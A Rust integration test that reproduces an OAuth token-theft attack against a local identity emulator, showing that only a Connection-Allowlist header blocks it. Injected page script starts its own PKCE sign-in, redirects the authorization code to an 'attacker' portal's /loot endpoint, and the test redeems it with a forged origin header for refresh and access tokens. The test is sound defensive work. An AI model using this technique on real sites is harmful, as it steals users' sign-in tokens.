//! An attack that no page can prevent: script in it starts its own sign-in, whose verifier it knows, and navigates to
//! another site with the code. There the code is redeemed. Only `Connection-Allowlist` prevents that navigation.

use cross_tests::{Browser, CONTOSO_PAGE, Host, Portal, Setup, Stack};
use serde_json::Value;
use tempfile::TempDir;

use super::{SIGNED_IN, page_with, sign_in_as};

/// RFC 7636, appendix B.
const VERIFIER: &str = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk";
const SCOPE: &str = "https://auth.msft.communication.azure.com/Teams.ManageCalls offline_access";
const CHALLENGE: &str = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM";

/// A page with such a script, in which Alice is signed in.
pub(super) struct OwnSignIn {
    pub(super) attacker: Portal,
    pub(super) browser: Browser,
    stack: Stack,
    _page: TempDir,
}

impl OwnSignIn {
    /// Signs Alice in, and then starts the sign-in of the script.
    pub(super) async fn start(host: Host) -> Self {
        let attacker = Portal::named("attacker").await;
        let loot = attacker.put("/loot", "<!doctype html><p>taken</p>");
        let script = format!(
            "if (location.hash.includes('state=theirs')) location.replace({loot:?} + '?' + location.hash.slice(1));"
        );
        let page = page_with(&script, &["boot.js"]);
        let stack = Stack::serving(page.path(), host, Setup::default()).await;
        let browser = Browser::start().await;
        sign_in_as("alice@fabrikam.example", &stack, &browser).await;
        browser.wait_for_text(SIGNED_IN).await;
        let authorize = format!(
            "{}/authorize?client_id={CONTOSO_PAGE}&response_type=code&response_mode=fragment&prompt=none&state=theirs\
             &nonce=theirs&code_challenge_method=S256&code_challenge={CHALLENGE}&redirect_uri={}&scope={}",
            authority(&stack),
            stack.page,
            SCOPE.replace(' ', "%20"),
        );
        browser.script(&format!("location = {authorize:?}")).await;
        Self { attacker, browser, stack, _page: page }
    }
}

fn authority(stack: &Stack) -> String {
    format!("{}/organizations/oauth2/v2.0", stack.entra)
}

#[tokio::test]
async fn script_gets_tokens_by_starting_its_own_sign_in() {
    // Firefox and WebKit do not support the header.
    let attack = OwnSignIn::start(Host::WithoutConnectionAllowlist).await;
    attack.browser.wait_for_text("taken").await;
    let stack = &attack.stack;
    let requests = attack.attacker.requests();
    let code = requests.iter().find_map(|line| line.split_once("/loot?code=")?.1.split(['&', ' ']).next()).unwrap();

    // A program, unlike a browser, can send any origin.
    let form = [
        ("grant_type", "authorization_code"),
        ("client_id", CONTOSO_PAGE),
        ("code", code),
        ("code_verifier", VERIFIER),
        ("redirect_uri", &stack.page),
        ("scope", SCOPE),
    ];
    let body = form
        .map(|(name, value)| format!("{name}={}", value.replace(':', "%3A").replace('/', "%2F").replace(' ', "%20")));
    let request = reqwest::Client::new()
        .post(format!("{}/token", authority(stack)))
        .header("origin", stack.page.trim_end_matches('/'))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body.join("&"));
    let response = request.send().await.unwrap().bytes().await.unwrap();
    let response: Value = serde_json::from_slice(&response).unwrap();
    assert!(stack.emulator.has_issued_refresh_token(response["refresh_token"].as_str().unwrap()), "{response}");
    assert!(response["access_token"].is_string());
}
